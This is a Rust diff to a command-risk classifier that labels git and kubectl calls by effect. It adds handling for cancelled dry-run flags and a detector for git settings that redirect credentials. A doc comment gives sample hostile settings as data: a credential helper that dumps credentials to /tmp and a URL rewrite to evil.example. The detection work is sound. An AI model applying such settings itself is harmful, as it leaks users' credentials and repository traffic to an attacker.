@@ -95,7 +95,9 @@ pub(crate) fn git(sh: &mut Sh, args: &[String]) -> (Effect, String) {
     }
     match s {
         // A dry run contacts the remote but changes nothing (exact: `-n`/`--dry-run`).
-        "push" if short('n') || long("--dry-run") => (Read, "dry-runs a push".into()),
+        "push" if (short('n') || long("--dry-run")) && !super::args::dry_run_cancelled(rest) => {
+            (Read, "dry-runs a push".into())
+        }
         "push" => {
             if short('f')
                 || long("--force")
@@ -121,7 +123,9 @@ pub(crate) fn git(sh: &mut Sh, args: &[String]) -> (Effect, String) {
         }
         // Only `-n`/`--dry-run` is exact: without `-f`, `clean.requireForce=false` (a setting
         // not visible here) still lets `git clean -d` delete.
-        "clean" if short('n') || long("--dry-run") => (Read, "dry-runs a clean".into()),
+        "clean" if (short('n') || long("--dry-run")) && !super::args::dry_run_cancelled(rest) => {
+            (Read, "dry-runs a clean".into())
+        }
         "clean" => (Destructive, "deletes untracked files".into()),
         "checkout"
             if rest.iter().any(|r| r == "--" || r == ".") || short('f') || long("--force") =>
@@ -309,6 +313,11 @@ pub(crate) fn git_config(sh: &mut Sh, key: &str, value: &str) {
         && super::catalogue::harmless_pager(value)
     {
         // `git -c core.pager=cat log`: a pager that only shows text runs nothing.
+    } else if let Some(why) = credentials_redirected(&k, value) {
+        sh.add(Admin, format!("sets `{k}`: {why}"));
+        if let Some(cmd) = value.strip_prefix('!') {
+            sh.shell_text(cmd, &format!("git `{k}`"));
+        }
     } else if runs_command(&k) {
         sh.add(Mutating, format!("sets `{k}`, a command git runs later"));
         // `credential.helper=!cmd` and aliases mark a shell command with `!`.
@@ -321,6 +330,46 @@ pub(crate) fn git_config(sh: &mut Sh, key: &str, value: &str) {
             format!("sets `{k}` to `{value}`, which turns off a verification"),
         );
     }
+}
+
+/// A setting that hands git's credentials or traffic to someone else: a credential helper that
+/// is a shell command or a program by path (`credential.helper '!f() { cat >> /tmp/c; }; f'`),
+/// or a URL rewrite to another host (`url.https://evil.example/.insteadOf
+/// https://github.com/`; `git@github.com:` for `https://github.com/` keeps the host).
+fn credentials_redirected(key: &str, value: &str) -> Option<&'static str> {
+    const HELPERS: &[&str] = &[
+        "",
+        "store",
+        "cache",
+        "osxkeychain",
+        "manager",
+        "manager-core",
+        "libsecret",
+        "wincred",
+        "gnome-keyring",
+        "netrc",
+        "oauth",
+    ];
+    let helper =
+        key == "credential.helper" || (key.starts_with("credential.") && key.ends_with(".helper"));
+    if helper {
+        let program = value.split_whitespace().next().unwrap_or("");
+        let known = HELPERS.contains(&program.trim_start_matches("git-credential-"));
+        return (!known).then_some("git gives every credential it uses to this program");
+    }
+    let base = key.strip_prefix("url.").and_then(|r| {
+        r.strip_suffix(".insteadof")
+            .or_else(|| r.strip_suffix(".pushinsteadof"))
+    })?;
+    let host = |u: &str| {
+        let rest = u.split_once("://").map_or(u, |(_, r)| r);
+        let rest = rest.rsplit_once('@').map_or(rest, |(_, r)| r);
+        rest.split(['/', ':'])
+            .next()
+            .unwrap_or("")
+            .to_ascii_lowercase()
+    };
+    (host(base) != host(value)).then_some("git sends this host's traffic and credentials elsewhere")
 }
 
 /// `http.sslVerify false`, `http.<url>.sslVerify false`, `transfer.fsckObjects false`: git stops
@@ -428,12 +477,13 @@ pub(crate) fn kubectl(sh: &mut Sh, args: &[String], stdin: &Input) -> (Effect, S
     let args = spelled.as_slice();
     let (s, rest) = sub(args, &with);
     // `--dry-run`, `--dry-run=client|server` change nothing; `--dry-run=none` is a real run.
-    let dry = args.iter().any(|a| {
-        matches!(
-            a.as_str(),
-            "--dry-run" | "--dry-run=client" | "--dry-run=server"
-        )
-    });
+    let dry = !super::args::dry_run_cancelled(args)
+        && args.iter().any(|a| {
+            matches!(
+                a.as_str(),
+                "--dry-run" | "--dry-run=client" | "--dry-run=server"
+            )
+        });
     if dry
         && !matches!(
             s,
